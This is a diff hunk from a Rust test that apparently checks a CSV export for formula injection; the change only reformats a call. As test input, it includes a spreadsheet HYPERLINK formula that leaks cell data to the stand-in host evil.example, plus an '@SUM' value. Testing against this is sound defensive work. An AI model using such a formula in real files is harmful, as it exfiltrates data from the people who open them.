@@ -197,7 +197,8 @@ async fn a_csv_export_never_turns_a_readers_words_into_a_formula() {
     let app = quick_app().await;
     let token = fresh_token(&app).await;
     let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
-    let r = post(&app, &[("token", &token), ("name", "@SUM(1)"), ("kind", "general"), ("message", formula)]).await;
+    let r = post(&app, &[("token", &token), ("name", "@SUM(1)"), ("kind", "general"), ("message", formula)])
+        .await;
     assert_eq!(r.status().as_u16(), 303);
 
     let (ok, out, err) =
